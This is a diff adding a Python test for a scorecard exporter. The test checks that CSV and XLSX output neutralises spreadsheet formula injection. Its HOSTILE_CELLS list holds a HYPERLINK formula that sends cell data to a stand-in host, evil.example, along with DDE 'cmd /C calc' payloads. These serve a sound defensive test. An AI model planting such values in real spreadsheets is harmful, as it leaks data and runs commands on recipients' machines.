@@ -341,3 +341,33 @@ def test_unknown_suffix(scorecard, tmp_path):
 )
 def test_defect_codes_in_chinese(code, kind, text):
     assert describe_defect(code, kind) == text
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_and_xlsx_cells_never_start_a_formula(con, rule_vars, tmp_path):
+    """OWASP CSV injection: department names and document numbers come from departments' extracts."""
+    con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = ? where source_dept_code = ?",
+                [HOSTILE_CELLS[0], ZB_TAX])
+    con.execute("update marts.rpt_timeliness_quarterly set source_dept_name = ? where source_dept_code = ?",
+                [HOSTILE_CELLS[1], JN_MARKET])
+    con.execute("update marts.rpt_timeliness_quarterly_region set region_name = ? where region_code = '370300'",
+                [HOSTILE_CELLS[2]])
+    for i, doc in enumerate(["淄税罚〔2025〕5号", "淄税许〔2025〕9号", "历环罚〔2025〕4号", "济市监罚〔2025〕12号"]):
+        con.execute("update marts.fct_disclosure_timeliness set doc_no = ? where doc_no = ?", [HOSTILE_CELLS[3 + i], doc])
+    con.execute("update marts.rpt_timeliness_quarterly set score = -5.5 where source_dept_code = ?", [LX_ENV])
+    scorecard = load_scorecard(con, "2025Q4")
+
+    content = write_scorecard(scorecard, tmp_path / "q.csv").read_bytes().decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
+    assert [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))] == []
+    assert [c for c in cells if c.startswith("-")] == ["-5.5"]  # a number stays a number
+    for hostile in HOSTILE_CELLS:
+        assert "'" + hostile in cells  # kept whole, as text
+
+    book = openpyxl.load_workbook(write_scorecard(scorecard, tmp_path / "q.xlsx"))
+    values = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
+    assert [c.value for c in values if c.data_type == "f"] == []
+    assert {HOSTILE_CELLS[0], HOSTILE_CELLS[1]} <= {c.value for c in values}
